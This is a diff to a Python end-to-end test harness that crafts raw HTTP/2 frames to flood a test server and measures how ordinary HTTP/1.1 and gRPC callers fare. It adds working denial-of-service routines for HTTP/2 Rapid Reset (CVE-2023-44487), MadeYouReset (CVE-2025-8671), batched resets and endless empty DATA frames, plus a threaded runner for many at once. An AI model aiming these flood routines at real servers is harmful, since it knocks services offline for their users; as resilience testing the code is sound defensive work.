@@ -15,7 +15,9 @@ import struct
 import threading
 import time
 from collections.abc import Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
+from typing import ClassVar
 
 from e2e_processes import Process
 
@@ -26,6 +28,7 @@ ACK = b"\0\0\0\4\1\0\0\0\0"
 NO_WINDOW = b"\0\0\6\4\0\0\0\0\0" + b"\0\4\0\0\0\0"  # SETTINGS_INITIAL_WINDOW_SIZE 0
 DATA, HEADERS, PRIORITY, RST_STREAM, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 6, 7, 8, 9
 ENHANCE_YOUR_CALM = 11
+CANCEL = struct.pack(">I", 8)
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -42,13 +45,22 @@ def request(path: bytes, method: bytes = b"GET") -> bytes:
     return (literal(b":method", method) + b"\x86" + literal(b":path", path) + literal(b":authority", b"shop"))
 
 
+GRPC = (request(b"/test.Echo/Whoami", b"POST") + literal(b"content-type", b"application/grpc")
+        + literal(b"te", b"trailers"))
+
+
 def head(path: str, *fields: str, method: str = "GET") -> bytes:
     """A header section of HTTP/1.1."""
     return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: shop", *fields, "", ""]).encode()
 
 
 class Caller:
-    """One connection that says what it likes. `got`: all that has come back; `ended`: "", "closed" or "reset"."""
+    """One connection that says what it likes. `got`: all that has come back; `ended`: "", "closed" or "reset".
+
+    `home`: the address that all come from who are given none of their own.
+    """
+
+    home: ClassVar[str] = ""
 
     def __init__(self, address: Address, octets: bytes = b"", receive_buffer: int = 0, source: str = "") -> None:
         self.sock = socket.socket()
@@ -56,8 +68,8 @@ class Caller:
         if receive_buffer:
             self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
         self.sock.settimeout(10)
-        if source:
-            self.sock.bind((source, 0))
+        if source or Caller.home:
+            self.sock.bind((source or Caller.home, 0))
         self.sock.connect(address)
         self.got = b""
         self.ended = ""
@@ -135,10 +147,8 @@ def flood(address: Address, start: bytes, chunk: Callable[[int], bytes], chunks:
         for n in range(chunks):
             if not caller.say(chunk(n)) or caller.listen(0):
                 break
-        else:
-            return f"{chunks} chunks were taken"
-        caller.listen(3)
-        return outcome(caller)
+        # What the kernel has taken need not have been read yet.
+        return outcome(caller) if caller.listen(10) else f"{chunks} chunks were taken"
 
 
 def outcome(caller: Caller) -> str:
@@ -147,19 +157,40 @@ def outcome(caller: Caller) -> str:
     return f"goaway {max(codes)}" if codes else caller.ended or "open"
 
 
-def rapid_reset(address: Address) -> str:
-    block, cancel = request(b"/whoami"), struct.pack(">I", 8)
+def rapid_reset(address: Address, ask: bytes) -> str:
+    """CVE-2023-44487: each request (`ask` is its header block) is cancelled at once."""
     return flood(address, b"", lambda n: b"".join(
-        frame(HEADERS, 5, stream, block) + frame(RST_STREAM, 0, stream, cancel)
+        frame(HEADERS, 4, stream, ask) + frame(RST_STREAM, 0, stream, CANCEL)
         for stream in range(1 + 200 * n, 201 + 200 * n, 2)))
 
 
-def made_you_reset(address: Address) -> str:
+def made_you_reset(address: Address, ask: bytes) -> str:
     """CVE-2025-8671: an invalid WINDOW_UPDATE makes the server itself reset the stream."""
-    block = request(b"/whoami")
     return flood(address, b"", lambda n: b"".join(
-        frame(HEADERS, 5, stream, block) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
+        frame(HEADERS, 4, stream, ask) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
         for stream in range(1 + 50 * n, 51 + 50 * n, 2)))
+
+
+def resets_at_once(address: Address, ask: bytes) -> str:
+    """A hundred requests, then a hundred resets: all of them are under way before the first is cancelled."""
+    def wave(n: int) -> bytes:
+        streams = range(1 + 200 * n, 201 + 200 * n, 2)
+        return b"".join([*(frame(HEADERS, 4, stream, ask) for stream in streams),
+                         *(frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)])
+
+    return flood(address, b"", wave)
+
+
+def empty_data(address: Address, ask: bytes) -> str:
+    """A request whose body never comes, in as many frames as are taken."""
+    many = frame(DATA, 0, 1) * 200
+    return flood(address, frame(HEADERS, 4, 1, ask), lambda n: many)
+
+
+def at_once(attack: Callable[[], str], number: int) -> str:
+    """`number` of them, each in a thread of its own; how all of them ended."""
+    with ThreadPoolExecutor(number) as threads:
+        return " | ".join(sorted({future.result() for future in [threads.submit(attack) for _ in range(number)]}))
 
 
 def continuation(address: Address) -> str:
@@ -187,10 +218,7 @@ def unread_pings(address: Address) -> str:
         for _ in range(2000):
             if not caller.say(many):
                 break
-        else:
-            return "a million PING frames were taken"
-        caller.listen(3)
-        return outcome(caller)
+        return outcome(caller) if caller.listen(10) else "a million PING frames were taken"
 
 
 def crowd(address: Address, number: int, octets: bytes, seconds: float, *, more: bytes = b"",
@@ -250,14 +278,13 @@ def noise(address: Address, number: int, seed: int) -> str:
 
 
 class Bystander:
-    """An ordinary caller of HTTP/1.1 with one connection."""
+    """An ordinary caller with one connection, of HTTP/1.1."""
 
     CALLS = 25
 
     def __init__(self, address: Address, source: str = "") -> None:
         self._address = address
         self._source = source
-        self._ask = head("/whoami")
 
     def worst(self, windows: int, enough: Callable[[], object] = lambda: True) -> float:
         """The median, over `windows` or more until it is `enough`, of the slowest of 25 calls, in seconds.
@@ -265,7 +292,7 @@ class Bystander:
         That is a p99 which one hiccup of the machine cannot move.
         """
         found: list[float] = []
-        with Caller(self._address, source=self._source) as caller:
+        with Caller(self._address, self.greeting(), source=self._source) as caller:
             while len(found) < windows or not enough():
                 found.append(self._window(caller))
         return statistics.median(found)
@@ -274,12 +301,37 @@ class Bystander:
         slowest = 0.0
         for _ in range(self.CALLS):
             caller.got = b""
+            ask = self.ask()
             started = time.perf_counter()
-            caller.say(self._ask)
+            caller.say(ask)
             caller.listen_for(b"shop-0")
             slowest = max(slowest, time.perf_counter() - started)
-            assert caller.statuses() == [200]
+            self.check(caller)
         return slowest
+
+    def greeting(self) -> bytes:
+        return b""
+
+    def ask(self) -> bytes:
+        return head("/whoami")
+
+    def check(self, caller: Caller) -> None:
+        assert caller.statuses() == [200]
+
+
+class GrpcBystander(Bystander):
+    """The same with gRPC."""
+
+    def greeting(self) -> bytes:
+        self._stream = -1
+        return PREFACE + SETTINGS + ACK
+
+    def ask(self) -> bytes:
+        self._stream += 2
+        return frame(HEADERS, 4, self._stream, GRPC) + frame(DATA, 1, self._stream, bytes(5))
+
+    def check(self, caller: Caller) -> None:
+        assert not caller.codes(RST_STREAM) | caller.codes(GOAWAY)
 
 
 class Repeated:
